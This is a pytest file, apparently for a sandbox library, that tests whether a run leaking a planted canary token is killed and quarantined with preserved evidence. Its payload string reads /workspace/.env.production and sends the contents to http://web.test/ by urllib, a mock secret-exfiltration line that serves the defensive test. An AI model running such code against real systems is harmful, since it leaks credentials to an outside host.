"""A run that trips a canary is quarantined by itself, where the policy says so."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from network_routes import OpenJar, network, rule, run_python, summary
from network_web import Web

from belljar import Pool, RunResult, Sandbox
from belljar.audit.reading import records
from belljar.egress.client.client import PROXY
from belljar.egress.decide.rules import Rule, Rules
from belljar.sandbox.files.snapshot_files import SnapshotFiles
from belljar.sandbox.incident.evidence_archive_reading import EvidenceArchive
from belljar.sandbox.record.result import Outcome

TOKEN = "/workspace/.env.production"
SENDING = f"""
import time, urllib.request
open("/workspace/made", "w").write("evidence")
print("before", flush=True)
try:
    urllib.request.urlopen("http://web.test/" + open("{TOKEN}").read().strip()).read()
except OSError:
    pass
"""
STAYING = SENDING + "\ntime.sleep(1000)\n"


def policy(web: Web, *, quarantine: bool = True) -> dict[str, Any]:
    """One host, a planted token, and what is to become of whoever sends it."""
    return {**network(rule("web.test", web.address, 80), canary_files=[TOKEN]), "logging": {"quarantine": quarantine}}


def bundles(state_directory: str, result: RunResult) -> list[Path]:
    return sorted(Path(state_directory, "quarantine").glob(f"{result.run_id}*"))


def check(result: RunResult, state_directory: str) -> dict[str, Any]:
    """It was stopped for it, its reason names the bundle, and that is whole. The manifest."""
    assert "canary" in result.reason, summary(result)
    (path,) = bundles(state_directory, result)
    assert str(path) in result.reason
    with EvidenceArchive(str(path)) as bundle:
        assert bundle.problems() == []
        assert bundle.manifest["run"] == result.run_id
        assert bundle.manifest["by"] == "a canary"
        return bundle.manifest


def events(result: RunResult, state_directory: str) -> list[str]:
    log = str(Path(state_directory, "audit"))
    return [record["event"] for record in records(log) if record.get("run") == result.run_id]


@pytest.mark.parametrize("code", [STAYING, SENDING], ids=["it stays", "it ends at once"])
def test_a_token_that_is_sent(open_jar: OpenJar, web: Web, state_directory: str, code: str) -> None:
    """It stands still, if it has not ended by then; its files, its output and what it sent are in the bundle."""
    result = run_python(open_jar(policy(web)), code)
    manifest = check(result, state_directory)
    assert result.outcome is Outcome.KILLED
    if code is STAYING:
        assert manifest["frozen"]
        assert manifest["still"]
    (path,) = bundles(state_directory, result)
    with EvidenceArchive(str(path)) as bundle:
        assert bundle.read("output/stdout", 100) == b"before\n"
        assert b'"canary"' in bundle.read("egress.jsonl", 1 << 20)
        part = bundle.parts["files.snapshot"]
        with SnapshotFiles(str(path), start=part.offset, size=part.size) as files:
            assert files.read(files.files["made"], 100) == b"evidence"
    told = events(result, state_directory)
    assert told.index("egress") < told.index("quarantine") < told.index("quarantined") < told.index("finished")


def test_not_where_the_policy_does_not_say_so(open_jar: OpenJar, web: Web, state_directory: str) -> None:
    """The control: it is killed, as ever."""
    result = run_python(open_jar(policy(web, quarantine=False)), STAYING)
    assert result.outcome is Outcome.KILLED
    assert bundles(state_directory, result) == []
    assert "quarantine" not in events(result, state_directory)


def test_in_a_pool(web: Web, state_directory: str, need_backend: Any) -> None:
    """The same, and the pool goes on."""
    need_backend("bubblewrap")
    with Pool({**policy(web), "backend": "bubblewrap"}, size=1) as pool:
        result = pool.run(STAYING)
        assert check(result, state_directory)["frozen"]
        assert pool.run("print(1)").stdout == "1\n"


def test_a_canary_before_the_code(
    open_jar: OpenJar, web: Web, state_directory: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A proxy that lets everything pass: the run is refused, and what was found is kept."""
    everything = Rules(allow=(Rule(0, "net.allowlist[0]", "", "*", ports=(80, 443)),), max_name_entropy=8.0)
    right = PROXY.serve
    monkeypatch.setattr(PROXY, "serve", lambda run_id, _rules, *rest: right(run_id, everything, *rest))
    jar: Sandbox = open_jar(policy(web))
    result = run_python(jar, STAYING)
    assert result.outcome is Outcome.REFUSED
    (path,) = bundles(state_directory, result)
    assert str(path) in result.reason
    with EvidenceArchive(str(path)) as bundle:
        assert bundle.problems() == []
        end = json.loads(bundle.read("end.json", 1 << 20))
    assert (end["started"], end["ended_by"]) == (False, "canary")
    assert "a name that nobody listed was not refused" in end["problems"]
